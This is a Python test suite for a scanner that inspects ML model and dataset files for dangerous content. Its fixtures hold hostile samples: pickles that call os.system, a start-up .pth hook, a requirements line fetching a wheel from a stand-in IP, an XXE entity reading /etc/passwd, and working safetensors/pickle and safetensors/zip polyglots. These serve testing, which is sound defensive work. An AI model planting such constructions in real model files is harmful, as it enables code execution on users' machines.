"""The `artifact` check as a whole: content decides, names must agree, and what is not known is refused."""

from __future__ import annotations

import io
import json
import pickle
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique import checking
from pratique.artifacts import open_artifact
from pratique.checking import Report, Severity
from pratique.checks.artifact import MAX_FINDINGS, MEASURES, RULES, ArtifactOptions, artifact
from pratique.checks.artifact.looking import Asked, look
from pratique.checks.artifact.viewing import View
from pratique.errors import CheckError, UsageError
from pratique.testing import assert_check_contract, folder_of

COMMAND = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
"""What `pickle.dumps` makes of an object whose `__reduce__` is (os.system, ("true",))."""

EVERYTHING = ("csv", "json", "parquet", "pickle", "safetensors", "text")


def safetensors(header: object, data: bytes = b"") -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + data


ONE = safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\0" * 8)

HONEST = {
    "model.safetensors": ONE,
    "config.json": b'{"model_type": "llama", "_attn_implementation": "sdpa", "auto_map": null}',
    "model.sig": b'{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json"}',
    "README.md": "# A model\n\nUnd größer.\n".encode(),
    "LICENSE": b"Apache License\x0c\n",
    ".gitattributes": b"*.safetensors filter=lfs\n",
    "vocab.txt": b"the\nof\n",
    "data/train.csv": b"a,b\n1,2\n",
    "data/train.jsonl": b'{"a": 1}\n{"a": 2}\n',
}


def check(tmp_path: Path, files: dict[str, bytes], **options: object) -> Report:
    folder = folder_of(tmp_path / "artifact", files)
    asked = checking.options_for(artifact, options)
    return checking.run(artifact, open_artifact(folder, into=tmp_path / "snapshots"), asked)


def rules(tmp_path: Path, name: str, data: bytes, **options: object) -> list[str]:
    return [finding.rule for finding in check(tmp_path, {name: data}, **options).findings]


def test_an_honest_model_has_no_findings(tmp_path: Path) -> None:
    report = check(tmp_path, HONEST)
    assert report.findings == ()
    assert report.measures == {
        "files": len(HONEST), "bytes": sum(map(len, HONEST.values())), "recognised_files": len(HONEST), "refused_files": 0,
        "second_opinions": 0,
        "tensors": 1, "parameters": 2, "pickle_globals": 0,
    }  # fmt: skip


def test_the_contract_of_checks(tmp_path: Path) -> None:
    good = folder_of(tmp_path / "good", HONEST)
    for kind in ("model", "dataset"):
        assert_check_contract(artifact, good=good, work=tmp_path / kind, kind=kind)


def test_a_single_file_is_an_artifact_too(tmp_path: Path) -> None:
    folder_of(tmp_path, {"weights.pkl": COMMAND})
    report = checking.run(artifact, open_artifact(tmp_path / "weights.pkl"), ArtifactOptions())
    assert report.worst is Severity.CRITICAL


def test_a_pickle_with_code_in_it(tmp_path: Path) -> None:
    """What a person reads must name the file, the place, the function and the way out."""
    report = check(tmp_path, {**HONEST, "weights.pkl": COMMAND})
    first, second = report.findings
    assert (first.rule, first.severity, first.where) == ("pickle-global", Severity.CRITICAL, "weights.pkl, byte 17")
    assert first.message == (
        "loading this pickle runs os.system: STACK_GLOBAL imports it (as posix), REDUCE at byte 25 calls it (role call)"
    )
    assert "safetensors" in first.fix
    assert second.rule == "format-not-allowed"
    assert report.measures["pickle_globals"] == 1 and report.measures["refused_files"] == 1


@pytest.mark.parametrize("name", ["w.safetensors", "w.json", "README.md", "w.csv", "w.parquet", "w.txt", "w.gguf"])
def test_a_pickle_under_another_name(tmp_path: Path, name: str) -> None:
    found = rules(tmp_path, name, COMMAND, formats=EVERYTHING)
    assert "pickle-global" in found and "extension-mismatch" in found


@pytest.mark.parametrize("name", ["README.md", "config.json", "data.csv", "weights", "LICENSE"])
def test_a_pickle_of_letters_only_is_not_taken_for_text(tmp_path: Path, name: str) -> None:
    """Protocol 0 has no header, and every byte of it can be typed."""
    assert "pickle-global" in rules(tmp_path, name, b"cposix\nsystem\n(Vtrue\ntR.", formats=EVERYTHING)


def test_a_pickle_of_letters_that_ends_in_prose(tmp_path: Path) -> None:
    """The command has run by the time that the loader stumbles."""
    assert "pickle-global" in rules(tmp_path, "README.md", b"cposix\nsystem\n(Vtrue\ntR\n# A model\n")


def test_prose_that_begins_like_a_pickle_is_prose(tmp_path: Path) -> None:
    prose = {
        "a.md": b"(i.e. a model)\nof cats\n", "b.md": b"cats\nand dogs\n.\n", "c.md": b"N.B. this is a model.\n",
        "d.md": b"GGUF files are elsewhere.\n", "e.md": b"PAR1 is a magic.\n", "f.md": b"MZ\n", "g.txt": b"I1\nsaw\n",
        "h.csv": b"id,label\n1,cat\n", "i.txt": b"PK\n", "j.md": b"[1](x)\n", "k.md": b"{{ not a template }}\n",
    }  # fmt: skip
    assert check(tmp_path, prose).findings == ()


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (b"\x7fELF\x02\x01\x01" + b"\0" * 64, "native-code"),
        (b"MZ\x90\x00" + b"\0" * 64, "native-code"),
        (b"\xcf\xfa\xed\xfe" + b"\0" * 64, "native-code"),
        (b"\xa7\r\r\n" + b"\0" * 64, "native-code"),
        (b"\0asm\x01\0\0\0", "native-code"),
        (b"GGUF\x03\0\0\0" + b"\0" * 16, "format-not-allowed"),
        (b"\x89HDF\r\n\x1a\n\0\0", "format-not-allowed"),
        (b"\x1f\x8b\x08\0" + b"\xff" * 16, "format-not-allowed"),
        (b"x\x9c\xff\xff", "format-not-allowed"),
        (b"7z\xbc\xaf\x27\x1c\0\4", "format-not-allowed"),
        (b"\0" * 257 + b"ustar\0", "format-not-allowed"),
        (b"\xff\xfea\0,\0", "format-not-allowed"),
        (b"\x08\x07\x3a\x00", "format-not-allowed"),
        (b"\xde\xad\xbe\xef", "unknown-format"),
    ],
)
@pytest.mark.parametrize("name", ["weights.bin", "weights"])
def test_what_is_no_data_is_refused_by_its_content(tmp_path: Path, name: str, data: bytes, rule: str) -> None:
    assert rules(tmp_path, name, data) == [rule]


@pytest.mark.parametrize("name", ["model.py", "hook.PY", "lib.so", "x.pyc", "run.sh", "x.ipynb", "a/b/setup.js", "i.html"])
@pytest.mark.parametrize("data", [b"", b"print()\n"])
def test_a_program_by_its_name(tmp_path: Path, name: str, data: bytes) -> None:
    assert rules(tmp_path, name, data) == ["code-file"]


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("evil.pth", b'import os; os.system("true")\n', "code-file"),  # site-packages/*.pth runs at start-up
        ("notes.txt", b"#!/bin/sh\ntrue\n", "code-file"),
        ("requirements.txt", b"evil @ http://192.0.2.1/e.whl\n", "install-file"),
        ("dev-requirements.txt", b"evil\n", "install-file"),
        ("package.json", b'{"scripts": {"postinstall": "true"}}', "install-file"),
        ("chat_template.jinja", b"{{ messages }}", "template-file"),
        ("config.yaml", b"model:\n  _target_: os.system\n", "unknown-format"),
        ("config.yaml", b'{"_target_": "os.system"}', "unknown-format"),  # YAML takes JSON
        ("MLmodel", b"flavors: {}\n", "unknown-format"),
        ("model.pmml", b'<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "unknown-format"),
        ("Dockerfile", b"RUN true\n", "install-file"),
        (".git/hooks/post-checkout", b"true\n", "unknown-format"),
    ],
)
def test_text_that_somebody_acts_on(tmp_path: Path, name: str, data: bytes, rule: str) -> None:
    assert rule in rules(tmp_path, name, data)


def test_a_format_that_was_not_asked_for(tmp_path: Path) -> None:
    for name, data in HONEST.items():
        label = {"json": "json", "sig": "json", "jsonl": "json", "csv": "csv", "safetensors": "safetensors"}
        form = label.get(name.rsplit(".", 1)[-1], "text")
        others = [one for one in EVERYTHING if one != form]
        folder = tmp_path / name.replace("/", "-")
        assert rules(folder, name, data, formats=others) == ["format-not-allowed"]


@pytest.mark.parametrize(
    ("name", "data"),
    [("a.json", ONE), ("a.md", ONE), ("a.parquet", ONE), ("a.safetensors", b"PAR1\x00\0\0\0\0PAR1"), ("a.gguf", ONE),
     ("a.safetensors", b"\x7fELF\0"), ("a.pkl", ONE), ("model.pt", ONE)],
)  # fmt: skip
def test_name_and_content_disagree(tmp_path: Path, name: str, data: bytes) -> None:
    assert "extension-mismatch" in rules(tmp_path, name, data)


@pytest.mark.parametrize("name", ["a.safetensors", "a.json", "a.parquet", "a.pkl", "a.jsonl", "a.csv"])
def test_noise_under_a_name_that_promises_something(tmp_path: Path, name: str) -> None:
    """The reader of the promised format says what is wrong."""
    found = check(tmp_path, {name: bytes(range(256)) * 3}).findings
    assert found[0].rule.endswith("-malformed") and found[0].severity >= Severity.HIGH


def test_empty_files(tmp_path: Path) -> None:
    assert rules(tmp_path / "1", "notes.txt", b"") == ["empty-file"]
    assert rules(tmp_path / "2", "package/__init__.py", b"") == ["code-file"]
    assert rules(tmp_path / "3", "model.safetensors", b"") == ["safetensors-malformed"]
    assert rules(tmp_path / "4", "config.json", b"") == ["json-malformed"]
    assert "pickle-malformed" in rules(tmp_path / "5", "weights.pkl", b"")


def both_safetensors_and_pickle(low: int) -> bytes:
    """The header's length begins with `low`: 0x58 is BINUNICODE, whose string ends within a tensor's name, where a `V` opens
    another one. That ends at the first line feed, which is the first byte of the tensor. The rest is the command."""
    data = b"\n0cposix\nsystem\n(Vtrue\ntR."
    length = 0x0C << 8 | low
    header = json.dumps({"V" * 40: {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}})
    return length.to_bytes(8, "little") + header.ljust(length).encode() + data


def test_safetensors_that_are_a_pickle_too(tmp_path: Path) -> None:
    with pytest.raises(pickle.UnpicklingError, match=r"posix\.system"):
        Asking(io.BytesIO(both_safetensors_and_pickle(0x58))).load()  # the attack is real
    assert rules(tmp_path / "attack", "model.safetensors", both_safetensors_and_pickle(0x58)) == ["polyglot"]
    assert rules(tmp_path / "twin", "model.safetensors", both_safetensors_and_pickle(0x60)) == []


class Asking(pickle.Unpickler):
    """The real unpickler, up to the point where it would import something."""

    def find_class(self, module: str, name: str) -> object:
        raise pickle.UnpicklingError(f"it wants {module}.{name}")


def zip_of(files: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def test_safetensors_that_are_a_zip_too(tmp_path: Path) -> None:
    """Readers of zip archives begin at the end: `python model.safetensors` would run this file."""
    data = zip_of({"__main__.py": b"print('run')\n"})
    header = {"a": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}
    assert zipfile.is_zipfile(io.BytesIO(safetensors(header, data)))
    assert rules(tmp_path / "attack", "model.safetensors", safetensors(header, data)) == ["polyglot"]
    harmless = data.replace(b"PK\x01\x02", b"PK\x01\x03")  # the four letters of the end alone mean nothing
    assert rules(tmp_path / "twin", "model.safetensors", safetensors(header, harmless)) == []


def test_a_flood_of_findings_is_listed_in_part_and_counted_in_full(tmp_path: Path) -> None:
    files = {f"f{number:04}.yaml": b"a: 1\n" for number in range(9 * MAX_FINDINGS)} | {"z.bin": b"\x7fELF" + b"\0" * 9}
    report = check(tmp_path, files)
    last = report.findings[-1]
    assert len(report.findings) == 8 * MAX_FINDINGS + 1
    assert last.rule == "more-findings" and last.severity is Severity.CRITICAL
    assert "1 native-code" in last.message and "25 unknown-format" in last.message
    assert report.measures["refused_files"] == len(files)


def test_names_that_would_act_on_a_terminal_are_not_repeated(tmp_path: Path) -> None:
    module, name = "\x1b[2J\ud800".encode("utf-8", "surrogatepass"), b"x" * 200
    stream = b"\x80\x04\x8c%c%b\x8c%c%b\x93." % (len(module), module, len(name), name)
    report = check(tmp_path, {"w.pkl": stream, "c.json": b'{"\\u001b[2J": {"auto_map": 1, "chat_template": "{{ x }}"}}'})
    assert {finding.rule for finding in report.findings} >= {"pickle-global", "remote-code-reference", "template-in-json"}
    for finding in report.findings:
        assert f"{finding.message}{finding.where}".isprintable()
        assert len(finding.message) < 400
        finding.message.encode()


def test_the_order_of_formats_is_no_other_question() -> None:
    one, two = ArtifactOptions(formats=("text", "json", "json")), ArtifactOptions(formats=("json", "text"))
    assert one.digest == two.digest != ArtifactOptions().digest


@pytest.mark.parametrize("options", [{"formats": ["exe"]}, {"formats": []}, {"format": ["json"]}, {"max_json_bytes": 0}])
def test_options_that_make_no_sense(options: dict[str, object]) -> None:
    with pytest.raises(UsageError):
        checking.options_for(artifact, options)


def test_an_environment_is_no_artifact_of_this_check(tmp_path: Path) -> None:
    folder = folder_of(tmp_path / "e", {"a.json": b"{}"})
    with pytest.raises(CheckError, match="looks at a"):
        checking.run(artifact, open_artifact(folder, kind="environment"), ArtifactOptions())


def test_a_file_that_cannot_be_read_leaves_no_evidence(tmp_path: Path) -> None:
    opened = open_artifact(folder_of(tmp_path / "a", {"a.json": b"{}"}), into=tmp_path / "s")
    opened.root.chmod(0o700)
    (opened.root / "a.json").unlink()
    with pytest.raises(CheckError, match=r"cannot read a\.json"):
        checking.run(artifact, opened, ArtifactOptions())


def test_importing_the_check_is_cheap() -> None:
    """The policy loader imports it, in every Airflow worker that parses a DAG."""
    heavy = "{'numpy', 'torch', 'pandas', 'pyarrow', 'safetensors', 'great_expectations', 'zmq', 'pickletools'}"
    code = f"import sys, pratique.checks.artifact; print(sorted({heavy} & set(sys.modules)))"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout == "[]\n"


NAMES = st.sampled_from(
    ["a.safetensors", "a.json", "a.jsonl", "a.csv", "a.parquet", "a.pkl", "a.pt", "a.txt", "a.py", "a", "a.gguf"]
)
STARTS = st.sampled_from(
    [b"", ONE[:40], COMMAND[:12], b"PAR1", b"PK\x03\x04", zip_of({"a/data.pkl": COMMAND}), b"{", b"a,b\n", b"PK\5\6"]
)


@given(name=NAMES, start=STARTS, rest=st.binary(max_size=200))
@settings(max_examples=400, deadline=None)
def test_no_bytes_make_it_stumble(name: str, start: bytes, rest: bytes, tmp_path_factory: pytest.TempPathFactory) -> None:
    path = tmp_path_factory.getbasetemp() / "stumble"
    path.write_bytes(start + rest)
    sight = look(View(name=name, path=path, data=start + rest), ASKED)
    for finding in sight.findings:
        assert finding.rule in RULES and finding.message and finding.fix and finding.where
    assert set(sight.counts) <= set(MEASURES)


@given(st.binary(min_size=1, max_size=60))
@settings(max_examples=300)
def test_bytes_of_no_format_are_never_waved_through(data: bytes) -> None:
    """Under a name that promises nothing, something is always said."""
    assert look(View(name="weights", path=Path("weights"), data=data), ASKED).findings


ASKED = Asked(formats=EVERYTHING, max_json_bytes=1 << 20, max_text_bytes=1 << 20)
